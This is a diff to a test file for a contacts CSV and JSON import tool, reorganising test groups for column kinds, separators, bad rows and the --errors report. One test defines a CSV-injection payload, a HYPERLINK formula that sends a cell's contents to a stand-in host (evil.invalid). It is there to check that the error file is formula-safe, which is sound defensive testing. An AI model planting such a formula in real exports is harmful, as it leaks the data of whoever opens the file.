@@ -48,7 +48,7 @@ const CSV = [
   "Alan Turing,alan@example.com,,,,,,,,,,Manchester,",
 ].join("\r\n");
 
-describe("CSV import", () => {
+describe("CSV import: every column kind, once", () => {
   it("creates contacts from every column kind, and a second run changes nothing", async () => {
     const file = writeScratch(dir, "people.csv", CSV);
     const first = await importJson([file]);
@@ -91,7 +91,9 @@ describe("CSV import", () => {
     const after = await allContacts();
     expect(after.map((c) => [c.id, c.updated_at])).toEqual(contacts.map((c) => [c.id, c.updated_at]));
   });
+});
 
+describe("CSV import: separators, column names, and repeated match keys", () => {
   it("reads ; separated files, renames columns with --map, and PATCHes only what differs", async () => {
     await importJson([writeScratch(dir, "first.csv", CSV)]);
     const before = byEmail(await allContacts(), "ada@example.com");
@@ -208,7 +210,7 @@ describe("JSON Lines and JSON arrays", () => {
   });
 });
 
-describe("bad rows", () => {
+describe("bad rows: --errors, and the exit code", () => {
   it("go to --errors with their line and reason, the good rows still go in, and the exit code is 1", async () => {
     const file = writeScratch(
       dir,
@@ -239,7 +241,9 @@ describe("bad rows", () => {
     expect(text).toMatch(/^6,do_not_contact: must be boolean/m);
     expect(text).toMatch(/^7,has 5 fields where the header has 4/m);
   });
+});
 
+describe("bad rows: formula-safe --errors, and stderr without it", () => {
   it("--errors is formula-safe as an export is, and imports again to the same values", async () => {
     const evil = '=HYPERLINK("https://evil.invalid/?d="&A1,"fix me")';
     // `-12` is no phone number: a lenient workspace keeps it as given (docs/decisions.md, "Phones in E.164").
